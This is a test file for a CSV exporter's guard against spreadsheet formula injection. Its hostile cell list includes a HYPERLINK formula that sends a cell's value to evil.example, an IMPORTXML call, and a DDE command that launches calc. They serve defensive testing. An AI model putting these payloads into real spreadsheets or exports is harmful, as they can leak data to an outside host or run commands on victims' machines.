import { execFileSync, spawnSync } from 'node:child_process'
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import * as fc from 'fast-check'
import { expect, test } from 'vitest'
import { toCsv } from '#boards/export/csv.ts'
import { readCsv } from './read-csv.ts'

const hostile = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(A1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '   \u00A0=1+1',
  '\u200B=1+1',
  '\uFEFF=1+1',
  '\u0000=1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(A1)',
  ' ＝1+1',
  '=HYPERLINK("https://evil.example/?"&A1,"click")',
  "=cmd|'/c calc'!A0",
  '"=1+1',
  '",=1+1,"',
  '"\r\n=1+1',
  "'=1+1",
  ';=1+1',
  '=IMPORTXML("https://evil.example","//a")',
  '@',
  '-',
  '=',
]

const starts = '=+-@\t\r\n＝＋－＠'

const text = fc.oneof(
  fc.string({ maxLength: 12 }),
  fc.string({ unit: 'binary', maxLength: 12 }),
  fc.string({ unit: fc.constantFrom(...'=+-@\t\r\n",;\' ＝1A'.split('')), maxLength: 8 }),
  fc.constantFrom(...hostile),
)

test('100,000 strings read back as they were, and none begins like a formula', () => {
  const rows = fc.sample(fc.array(text, { minLength: 10, maxLength: 10 }), 10_000)
  const back = readCsv(toCsv(rows))
  expect(back).toHaveLength(rows.length)
  let guarded = 0
  for (const [row, cells] of rows.entries())
    for (const [column, value] of cells.entries()) {
      const cell = back[row]?.[column] ?? 'missing'
      const bare = cell.replace(/^[\s\p{C}\p{Z}]+/u, '')
      if (starts.includes(cell.charAt(0) || 'x') || starts.includes(bare.charAt(0) || 'x'))
        throw new Error(`${JSON.stringify(value)} became ${JSON.stringify(cell)}.`)
      if (cell !== value) {
        guarded += 1
        if (cell !== `'${value}`) throw new Error(`${JSON.stringify(value)} became ${JSON.stringify(cell)}.`)
      }
    }
  // Neither all nor none of them.
  expect(guarded).toBeGreaterThan(10_000)
  expect(guarded).toBeLessThan(80_000)
})

test('it begins with a byte order mark, and every cell is quoted', () => {
  expect(
    toCsv([
      ['Name', 'a "b"'],
      ['=1', ''],
    ]),
  ).toBe('\uFEFF"Name","a ""b"""\r\n"\'=1",""\r\n')
})

const office = 'soffice'
const hasOffice = spawnSync(office, ['--version']).status === 0

test.skipIf(!hasOffice)(
  'LibreOffice, where it is installed, finds no formula in hostile cells',
  () => {
    const folder = mkdtempSync(join(tmpdir(), 'lookbook-csv-'))
    try {
      const convert = (name: string, content: string) => {
        const file = join(folder, `${name}.csv`)
        writeFileSync(file, content)
        execFileSync(office, [
          `-env:UserInstallation=file://${folder}/profile`,
          '--headless',
          // Comma, double quote, UTF-8, from the first line.
          '--infilter=CSV:44,34,76,1',
          '--convert-to',
          'fods',
          '--outdir',
          folder,
          file,
        ])
        return readFileSync(join(folder, `${name}.fods`), 'utf8')
      }
      const random = fc.sample(text, { numRuns: 3000, seed: 5 }).map((value) => value.replaceAll('\0', ''))
      const ours = convert('ours', toCsv([...hostile, ...random].map((value) => [value, 'next'])))
      expect(ours).toContain('1+1')
      expect(ours).not.toContain('table:formula')
      // Without the guard there would be some.
      expect(convert('bare', '"=1+1","next"\r\n')).toContain('table:formula')
    } finally {
      rmSync(folder, { recursive: true, force: true })
    }
  },
  120_000,
)
